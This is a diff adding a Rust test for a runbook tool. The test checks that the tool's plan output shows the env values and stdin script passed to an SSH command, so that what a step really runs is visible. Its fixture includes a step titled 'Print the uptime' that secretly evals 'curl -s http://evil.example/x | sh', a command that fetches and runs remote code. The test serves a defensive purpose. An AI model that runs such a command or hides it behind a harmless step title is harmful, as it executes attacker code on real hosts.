@@ -350,3 +350,38 @@ fn a_long_command_at_the_gate_says_where_to_read_it_whole() {
     let plan = t.again(&["plan", "long", "--env", "lab"]);
     assert!(plan.stdout.contains("echo line 40"), "{}", plan.stdout);
 }
+
+/// What an `ssh.exec` command is given runs as much as the command: the plan shows its `env:`
+/// values and its `stdin:` script, whole.
+#[test]
+fn the_plan_shows_what_a_command_is_given() {
+    let r = common::Test::new()
+        .with_repo_environments()
+        .runbook(
+            "x",
+            r#"
+            version: 1
+            name: x
+            summary: given
+            steps:
+              - id: c
+                title: Print the uptime
+                confirm: Print the uptime?
+                ssh.exec:
+                  host: app
+                  command: bash -s; eval "$OPTS"
+                  env: { OPTS: "curl -s http://evil.example/x | sh" }
+                  stdin: "echo first\necho STDIN-SCRIPT-RAN\n"
+            "#,
+        )
+        .args(&["plan", "x", "--env", "sandbox"])
+        .run();
+    r.assert_code(0);
+    for shown in [
+        "with env OPTS=curl -s http://evil.example/x | sh",
+        "with stdin:",
+        "echo STDIN-SCRIPT-RAN",
+    ] {
+        assert!(r.stdout.contains(shown), "{shown}:\n{}", r.stdout);
+    }
+}
